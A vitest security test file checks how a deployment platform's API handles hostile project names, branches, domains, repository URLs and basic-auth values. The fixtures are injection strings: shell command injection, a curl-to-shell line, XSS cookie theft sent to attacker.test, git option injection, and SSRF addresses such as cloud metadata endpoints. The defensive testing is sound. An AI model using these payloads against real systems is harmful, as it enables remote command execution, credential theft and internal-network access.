// Projects and environments given what an attacker would give them: kept as it is, or refused by the name of its field.
import { beforeAll, describe, expect, test } from 'vitest'
import { databases } from '../../../test/databases.ts'
import { buildOrganization, buildProject, buildUser, type TestUser } from '../../../test/factories.ts'
import { stageApp } from '../../../test/stage/stage-app.ts'

const literalNames = [
  'proj;touch $CANARY',
  'proj`touch $CANARY`',
  'proj|touch $CANARY',
  'proj&touch $CANARY',
  'proj&&touch $CANARY',
  'proj||touch $CANARY',
  "proj'$(touch $CANARY)'",
  'proj${IFS}$(touch${IFS}$CANARY)',
  'proj>$CANARY',
  'proj<(touch $CANARY)',
  'proj%0atouch%20$CANARY',
  'proj{touch,$CANARY}',
  '<script>alert(1)</script>',
  "<script>fetch('//attacker.test/'+document.cookie)</script>",
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '{{7*7}}',
  '${7*7}',
  "<iframe srcdoc='<script>alert(1)</script>'>",
  '<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>',
  '[x](javascript:alert(1))',
  "Robert'); drop table projects;--",
]

const literalBranches = [
  ...['main;id', 'main$(id)', 'main`id`', 'main${IFS}id', 'main|id', 'main&&id', 'main<x', 'main>x', "main'id", 'a"b'],
  ...['main#id', 'main%0aid', '"><img/src=x/onerror=alert(1)>', 'feat/#123', 'fix(scope)!', 'ümlaut/日本語'],
  ...['rtl\u202egnp.exe', '@', 'main$(curl${IFS}attacker.test|sh)'],
]

const refusedBranches = [
  ...['--upload-pack=touch${IFS}$CANARY', '-oProxyCommand=touch $CANARY', '--exec=sh', '', 'main branch', 'a..b'],
  ...['.hidden', 'main:id', 'main?x', 'main*x', 'main[x', 'main\\id', 'main\0x', 'main\nid', 'main\rid', 'a~1'],
  ...['main\u001b[2J', '../../etc/passwd', '/abs', 'end/', '@{-1}', 'refs/heads/x.lock'],
]

const refusedDomains = [
  'example.com`) || PathPrefix(`/',
  'example.com;return 301 http://evil',
  'http://$(whoami).example.com',
  '*.example.com',
  '[::1]',
  'example..com',
  'example-.com',
  `${'a'.repeat(64)}.com`,
  'a.'.repeat(130),
  ' example.com',
  'EXAMPLE.com.',
  'user@example.com',
  'https://example.com',
  '%65xample.com',
  'example.com\0.evil',
]

const refusedAddresses = [
  'EXT::sh -c touch% $CANARY',
  '/etc',
  './../..',
  '-oProxyCommand=touch $CANARY:x',
  'http://example.com/x.git',
  'git@github.com:user/repo.git;curl https://attacker.test/ -X POST --data `whoami`',
  "https://github.com/user/repo.git';curl https://attacker.test/",
  'https://github.com/o/r.git$(touch $CANARY)',
  'https://github.com/o/r.git\n--upload-pack=x',
  'https:///example.com/foo.git',
  'https://one.example.com/evil?%0ahost=two.example.com',
  'http://example.com:test/foo.git',
  'https://github.com@evil.example/x.git',
  'https://github.com\\@evil.example/x.git',
  'https://user:token@github.com/a/b.git',
  'https://[::1]/x.git',
  'https://0/x.git',
  'javascript:alert(1)',
  'https://a.example/'.repeat(3000),
  'https://127.1/x.git',
  'https://2130706433/x.git',
  'https://0x7f000001/x.git',
  'https://169.254.169.254/latest/meta-data/',
  'https://169.254.169.254/latest/meta-data',
  'https://metadata.google.internal/x',
  'https://\u2460\u2461\u2466.0.0.1/x.git',
  'https://10.0.0.5/x.git',
  'https://192.168.1.1/x.git',
  'https://172.17.0.1:2375/containers/json',
  'https://100.100.100.200/x',
  'https://[fd00::1]/x',
  'ssh://git@127.0.0.1:22/x.git',
]

describe.each(databases)('hostile projects and environments on $name', (source) => {
  const app = stageApp(source)
  let admin: TestUser
  let project: Awaited<ReturnType<typeof buildProject>>
  let count = 0

  beforeAll(async () => {
    admin = await buildUser(app.ctx)
    const { id } = await buildOrganization(app.ctx, [{ user: admin, role: 'admin' }])
    project = await buildProject(app.ctx, { organizationId: id, ownerId: admin.id }, { environment_limit: 1000 })
  })

  const createEnvironment = (body: Record<string, unknown>) =>
    app.call('POST', `/api/projects/${project.id}/environments`, {
      as: admin,
      body: { name: `e${++count}`, branch: 'main', ...body },
    })

  test.each(literalNames)('the name and title %j is kept byte for byte', async (name) => {
    const changed = await app.call('PATCH', `/api/projects/${project.id}`, { as: admin, body: { name } })
    expect(changed).toMatchObject({ status: 200, body: { name } })
    const { body } = await createEnvironment({ title: name })
    expect(body.title).toBe(name)
    const row = await app.ctx.db
      .selectFrom('environments as e')
      .innerJoin('projects as p', 'p.id', 'e.project_id')
      .where('e.id', '=', body.id)
      .select(['e.title', 'p.name'])
      .executeTakeFirst()
    expect(row).toEqual({ title: name, name })
  })

  test.each(['a\nb', '\u202e\u2066evil', 'a\u2028b', 'left\u200e', '\u001b[2J'])(
    'the name and title %j is refused: it would move or hide other text',
    async (name) => {
      const fault = (field: string) => ({ status: 422, body: { errors: [{ pointer: `/${field}` }] } })
      expect(await createEnvironment({ title: name })).toMatchObject(fault('title'))
      const paths = [`/api/projects/${project.id}`, `/api/organizations/${project.organization_id}`, '/api/me']
      for (const path of paths) {
        expect(await app.call('PATCH', path, { as: admin, body: { name } })).toMatchObject(fault('name'))
      }
      const server = { name, hostname: 'one.example.com' }
      expect(await app.call('POST', '/api/servers', { as: admin, body: server })).toMatchObject(fault('name'))
    },
  )

  test.each(literalNames)('%j is no name for an environment, since it is part of its domain', async (name) => {
    expect(await createEnvironment({ name })).toMatchObject({ status: 422, body: { errors: [{ pointer: '/name' }] } })
  })

  test.each(literalBranches)('the branch %j is kept byte for byte', async (branch) => {
    const { body } = await createEnvironment({ branch })
    expect(body.branch).toBe(branch)
  })

  test.each(refusedBranches)('the branch %j is refused', async (branch) => {
    expect(await createEnvironment({ branch })).toMatchObject({
      status: 422,
      body: { errors: [{ pointer: '/branch' }] },
    })
  })

  test.each(refusedDomains)('the domain %j is refused for projects and environments', async (domain) => {
    const answers = [
      await createEnvironment({ domain }),
      await app.call('PATCH', `/api/projects/${project.id}`, { as: admin, body: { domain } }),
    ]
    for (const answer of answers) {
      expect(answer).toMatchObject({ status: 422, body: { errors: [{ pointer: '/domain', code: 'invalid_domain' }] } })
    }
  })

  test('an international domain is kept as it is asked for in DNS', async () => {
    const { body } = await createEnvironment({ domain: `bücher.${project.domain}` })
    expect(body.domain).toBe(`xn--bcher-kva.${project.domain}`)
  })

  test.each(refusedAddresses)(
    'the repository address %.60j is refused, and nothing is kept of it',
    async (repo_url) => {
      const { organization_id, serverId } = project
      const made = { name: 'New', repo_url, domain: 'new.example.com', server_ids: [serverId], organization_id }
      const answers = [
        await app.call('PATCH', `/api/projects/${project.id}`, { as: admin, body: { repo_url } }),
        await app.call('POST', '/api/projects', { as: admin, body: made }),
      ]
      for (const answer of answers) {
        expect(answer).toMatchObject({ status: 422, body: { errors: [{ pointer: '/repo_url' }] } })
      }
      const kept = await app.ctx.db.selectFrom('projects').select('repo_url').execute()
      expect(kept).toEqual([{ repo_url: project.repo_url }])
    },
  )

  test.each([
    ['username', 'user with : colon'],
    ['username', 'a\nb'],
    ['username', ''],
    ['password', 'a\nb'],
    ['password', ''],
    ['password', 'a\0b'],
    ['password', 'x'.repeat(73)],
  ])('basic auth with the %s %j is refused', async (field, value) => {
    const basic_auth = { username: 'guest', password: 'password', [field]: value }
    const answer = await createEnvironment({ basic_auth })
    expect(answer).toMatchObject({ status: 422, body: { errors: [{ pointer: `/basic_auth/${field}` }] } })
    if (value.length > 1) expect(answer.text).not.toContain(JSON.stringify(value).slice(1, -1))
  })

  test.each(['${X}', '$apr1$x', '`id`', 'é'])('basic auth takes %j as it is and does not show it', async (value) => {
    const { body } = await createEnvironment({ basic_auth: { username: value, password: value } })
    expect(body.basic_auth).toEqual({ username: value, inherited: false })
  })

  test.each([
    ['project_id', 2],
    ['organization_id', 2],
    ['role', 'owner'],
    ['is_platform_admin', true],
    ['type', 'pull_request'],
    ['name', 'renamed'],
    ['variables_version', 9],
    ['awaits_approval', false],
    ['set', []],
  ])('a field %s that an environment does not take is named and changes nothing', async (field, value) => {
    const { body } = await createEnvironment({})
    const url = `/api/environments/${body.id}`
    const answer = await app.call('PATCH', url, { as: admin, body: { title: 'New', [field]: value } })
    expect(answer).toMatchObject({ status: 422, body: { errors: [{ pointer: `/${field}`, code: 'unknown_field' }] } })
    expect((await app.call('GET', url, { as: admin })).body).toEqual(body)
  })
})
